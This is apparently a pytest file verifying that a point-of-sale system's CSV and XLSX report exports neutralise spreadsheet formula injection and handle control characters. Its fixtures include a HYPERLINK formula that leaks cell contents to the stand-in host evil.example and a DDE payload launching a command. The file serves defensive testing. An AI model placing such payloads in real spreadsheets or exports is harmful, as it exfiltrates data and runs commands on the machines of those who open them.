"""The reports' spreadsheets (pos/reports/exports.py) hold what people typed as text:
a name that a spreadsheet would run as a formula arrives quoted, numbers stay numbers,
and characters an XLSX file cannot hold never make the export fail."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date
from types import SimpleNamespace

from openpyxl import load_workbook

from pos.reports import exports
from tests import factories

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'
FORMULAS = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+62 812 555", "-2+3", "\tTab", "\rReturn"]


def _rows(text: str) -> list[list[str]]:
    text = text.removeprefix("\ufeff")
    delimiter = ";" if text.splitlines()[0].count(";") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _summary(names: list[str]) -> dict:
    return {
        "transactions": 1, "items_sold": 2, "gross": 10_000, "discounts": 0, "voids": 0,
        "refunds": 25_000, "tax": 0, "net": -15_000,
        "by_payment_method": {"cash": -15_000}, "by_category": {"craft": -15_000},
        "by_product": [
            {"sku": f"S{i}", "name": name, "quantity": 1, "amount": -15_000}
            for i, name in enumerate(names)
        ],
        "by_hour": [{"hour": 9, "transactions": 1, "amount": -15_000}],
    }  # fmt: skip


def _event_row(name: str, region: str = "Gianyar", sentra: str = "") -> list:
    return [date(2025, 9, 6), "B1", name, region, sentra, 1, 2, 10_000, 0, 25_000, -15_000]


def _event_rows(*names: str) -> list[list]:
    filler = [0] * (len(exports.EVENT_COLUMNS) - 11)
    return [_event_row(name) + filler for name in names]


EVENT = SimpleNamespace(
    name="=Pameran", venue="@Ubud", timezone="Asia/Makassar", currency="IDR",
    starts_on=date(2025, 9, 5), ends_on=None,
)  # fmt: skip


def test_the_daily_csv_quotes_formula_names_and_keeps_negative_amounts_numbers(app):
    for lang in (None, "id", "en"):
        rows = _rows(exports.daily_summary_csv(_summary(FORMULAS), lang))
        products = [row for row in rows if row[1].startswith("S")]
        assert [row[2] for row in products] == ["'" + name for name in FORMULAS], lang
        assert {row[4] for row in products} == {"-15000"}
        assert rows[rows.index(products[0]) - 1][-1] == "-15000"  # by_category: a number


def test_the_event_csv_quotes_formula_names_and_keeps_negative_amounts_numbers(app):
    for lang in (None, "id"):
        rows = _rows(exports.event_rows_csv(_event_rows(*FORMULAS), lang))[1:]
        assert [row[2] for row in rows] == ["'" + name for name in FORMULAS], lang
        assert {row[10] for row in rows} == {"-15000"}


def test_the_event_xlsx_holds_formula_names_as_text_and_numbers_as_numbers(app):
    for lang in (None, "en"):
        content = exports.event_rows_xlsx(_event_rows(*FORMULAS), exports.event_facts(EVENT), lang)
        book = load_workbook(io.BytesIO(content))
        sheet, info = book.worksheets
        names = [sheet.cell(row=r, column=3) for r in range(2, 2 + len(FORMULAS))]
        # Exactly as typed, shown as text (XML reads a lone CR as a line feed).
        assert [c.value for c in names] == [f.replace("\r", "\n") for f in FORMULAS]
        assert {c.data_type for c in names} == {"s"}
        assert all(c.quotePrefix for c in names if c.value[0] in "=+-@")
        net = sheet.cell(row=2, column=11)
        assert (net.value, net.data_type) == (-15_000, "n")
        kinds = {c.data_type for row in info.iter_rows() for c in row}
        assert kinds <= {"s", "inlineStr", "n", "d"}  # no formula ("f")
        assert [c.value for c in info[1]][1] == "=Pameran"


def test_the_event_xlsx_leaves_out_characters_a_workbook_cannot_hold(app):
    rows = [_event_row("Perak\x07 Celuk\x00", region="Gian\x1byar", sentra="\x0bTohpati")]
    rows[0] += [0] * (len(exports.EVENT_COLUMNS) - 11)
    event = SimpleNamespace(**(vars(EVENT) | {"name": "Pameran\x01 Bali"}))
    book = load_workbook(
        io.BytesIO(exports.event_rows_xlsx(rows, exports.event_facts(event), "id"))
    )
    sheet, info = book.worksheets
    assert [sheet.cell(row=2, column=c).value for c in (3, 4, 5)] == [
        "Perak Celuk", "Gianyar", "Tohpati"
    ]  # fmt: skip
    assert info.cell(row=1, column=2).value == "Pameran Bali"


# --- through the API --------------------------------------------------------------------


def _sold(client, name: str):
    event = factories.make_event(name="Pameran Formula")
    booth = factories.Booth(event, "F1", name="Perak\x07Celuk", region=HYPERLINK)
    product = factories.make_product(booth.exhibitor, booth.manager, sku="F-1", name=name)
    manager = factories.auth_headers(client, booth.manager)
    sold = client.post(
        "/api/v1/sales",
        json={
            "exhibitor_id": booth.exhibitor.id,
            "items": [{"product_id": product.id, "quantity": 1}],
            "payments": [{"method": "cash", "amount": product.price}],
        },
        headers=manager | {"Idempotency-Key": str(uuid.uuid4())},
    )
    assert sold.status_code == 201, sold.get_json()
    return event, booth, manager


def test_a_product_named_as_a_formula_is_text_in_the_daily_csv(client, db):
    _event, booth, manager = _sold(client, HYPERLINK)
    for lang in ("", "&lang=id"):
        response = client.get(
            f"/api/v1/reports/daily.csv?exhibitor_id={booth.exhibitor.id}{lang}", headers=manager
        )
        assert response.status_code == 200
        [product] = [row for row in _rows(response.get_data(as_text=True)) if row[1] == "F-1"]
        assert product[2] == "'" + HYPERLINK and product[4] == "100000"


def test_an_exhibitor_named_as_a_formula_is_text_in_the_event_csv_and_xlsx(client, db):
    event, _booth, _manager = _sold(client, "Gelang")
    organizer = factories.auth_headers(client, factories.make_user("organizer"))
    response = client.get(f"/api/v1/reports/event.csv?event_id={event.id}", headers=organizer)
    assert response.status_code == 200
    [row] = _rows(response.get_data(as_text=True))[1:]
    assert row[2:4] == ["Perak\x07Celuk", "'" + HYPERLINK]
    response = client.get(f"/api/v1/reports/event.xlsx?event_id={event.id}", headers=organizer)
    assert response.status_code == 200  # not a 500 for the bell character
    cells = load_workbook(io.BytesIO(response.data)).worksheets[0][2]
    assert [c.value for c in cells[2:4]] == ["PerakCeluk", HYPERLINK]
    assert (cells[3].data_type, cells[3].quotePrefix) == ("s", True)
